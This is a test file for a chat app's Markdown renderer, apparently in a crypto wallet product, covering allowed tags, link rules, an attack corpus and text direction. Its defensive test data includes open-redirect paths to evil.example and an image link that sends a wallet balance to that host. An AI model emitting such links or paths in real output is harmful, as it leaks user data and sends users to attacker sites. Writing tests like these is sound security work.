import { render } from '@testing-library/react'
import { describe, expect, test, vi } from 'vitest'
import { Markdown } from '#features/chat/messages/markdown.tsx'
import { stripMarkdown } from '#features/chat/messages/strip-markdown.ts'
import { attacks } from '#test-support/examples/markdown-attacks.ts'

const renderMarkdown = (source: string) => render(<Markdown source={source} />).container
const allowedTags = new Set(['DIV', 'P', 'STRONG', 'EM', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'BR', 'A', 'SPAN'])
const attributes = new Set(['class', 'dir', 'start', 'href', 'target', 'rel'])

describe('Markdown of users and models', () => {
  test.each([
    ['a **b** *c* `d`', 'P STRONG EM CODE', 'a b c d'],
    ['# Big\n\ntext', 'P STRONG P', 'Bigtext'],
    ['- one\n- two\n  1. deep', 'UL LI P LI P OL LI P', 'onetwodeep'],
    ['3. three\n4. four', 'OL LI P LI P', 'threefour'],
    ['```\nlet x\n```', 'PRE CODE', 'let x'],
    ['> quoted', 'P', 'quoted'],
    ['a  \nb', 'P BR', 'ab'],
    ['~~gone~~ here', 'P', 'gone here'],
    ['|a|b|\n|-|-|\n|1|2|', 'P P', 'a · b1 · 2'],
    ['---\n\nafter', 'P', 'after'],
    ['مرحبا **بك**', 'P STRONG', 'مرحبا بك'],
  ])('renders %j', (source, elements, words) => {
    const container = renderMarkdown(source)
    const tags = [...container.querySelectorAll('div > *, div > * *')].map((one) => one.tagName)
    expect(tags.filter((tag) => tag !== 'DIV').join(' ')).toBe(elements)
    expect(container.textContent).toBe(words)
  })

  test('links only to https, and shows the host beside the link', () => {
    const link = renderMarkdown('see [the **docs**](https://example.com/a?b=c)').querySelector('a')
    expect(link?.getAttribute('href')).toBe('https://example.com/a?b=c')
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(link?.nextElementSibling?.textContent).toBe('(example.com)')
  })

  test.each([
    ['/app/settings', true],
    ['/app/settings#limits', true],
    ['/app/history?receipt=3f2c-1', true],
    ['/app/discover?alerts=all', true],
    ['/app/wallet/send', true],
    ['/app/wallet/send?symbol=SOL&amount=0.1', true],
    ['/app/wallet/send?symbol=SOL&amount=0.1&to=Anna', false],
    ['/app/wallet/send/x', false],
    ['/app/../sign-up', false],
    ['/sign-up', false],
    ['/app/settings?next=//evil.example', false],
    ['/app/wallet//evil.example', false],
    ['//evil.example/app/settings', false],
    ['/app/settings%0a', false],
    ['app/settings', false],
  ])('decides whether %s is a link within the app: %s', (path, isLink) => {
    const container = renderMarkdown(`see [this](${path})`)
    const link = container.querySelector('a')
    expect([link?.getAttribute('href'), link?.getAttribute('target')]).toEqual([
      isLink ? path : undefined,
      isLink ? null : undefined,
    ])
    expect([container.textContent, stripMarkdown(`see [this](${path})`)]).toEqual(['see this', 'see this'])
  })

  test('renders an image as its alt text', () => {
    const container = renderMarkdown('look ![a chart](https://evil.example/leak.png?balance=5)')
    expect([container.textContent, container.querySelector('img, a')]).toEqual(['look a chart', null])
  })

  test('is truncated at 8,000 characters, and read aloud without markup', () => {
    expect(renderMarkdown('x'.repeat(9000)).textContent).toHaveLength(8001)
    expect(stripMarkdown('# Hi\n- **a** `b`\n- [c](https://example.com)')).toBe('Hi\na b\nc (example.com)')
  })

  test.each(['>', '- ', '1. ', '> - ', '[', '*', '![a]('])(
    'renders thousands of %j as text without slow parsing',
    (mark) => {
      vi.spyOn(console, 'error').mockReturnValue()
      const started = performance.now()
      expect(renderMarkdown(`${mark.repeat(7999 / mark.length)}x`).textContent?.length).toBeGreaterThan(0)
      expect(performance.now() - started).toBeLessThan(5000)
    },
  )
})

describe('attacks', () => {
  test('include at least 60 texts', () => expect(new Set(attacks).size).toBeGreaterThanOrEqual(60))

  test.each(attacks)('create no element, attribute or URL outside our list: %j', (source) => {
    const container = renderMarkdown(source)
    for (const element of container.querySelectorAll('*')) {
      expect(allowedTags.has(element.tagName), element.outerHTML).toBe(true)
      for (const { name } of element.attributes) expect(attributes.has(name), element.outerHTML).toBe(true)
      const href = element.getAttribute('href')
      if (href === null) continue
      expect(href).toMatch(/^https:\/\//)
      expect(element.textContent && element.nextElementSibling?.textContent).toBe(`(${new URL(href).host})`)
      expect(new URL(href).username + new URL(href).password).toBe('')
    }
  })
})

describe('the text direction', () => {
  const direction = (source: string, selector: string) =>
    renderMarkdown(source).querySelector(selector)?.getAttribute('dir')

  test('follows the words, not a symbol or an amount at the start', () => {
    const holdings =
      '- \u20682\u2069 \u2068ETH\u2069 على \u2068Ethereum\u2069\n- \u20685\u2069 \u2068SOL\u2069 على \u2068Solana\u2069'
    expect(direction(holdings, 'ul')).toBe('rtl')
    expect(direction(holdings, 'li > p')).toBe('rtl')
    expect(direction('1. \u2068BONK\u2069: \u2068\u20680.5\u2069 دولار\u2069', 'ol')).toBe('rtl')
    expect(direction('\u2068BONK\u2069 على \u2068Solana\u2069', 'p')).toBe('rtl')
    expect(direction('Murmur تطبيق ويب لشراء التوكنات', 'p')).toBe('rtl')
  })

  test('is left to the browser for other scripts', () => {
    expect(direction('\u20682\u2069 ETH on Ethereum', 'p')).toBe('auto')
    expect(direction('BONK \u2068مرحبا\u2069', 'p')).toBe('auto')
    expect(direction('The word مرحبا is a greeting', 'p')).toBe('auto')
  })
})
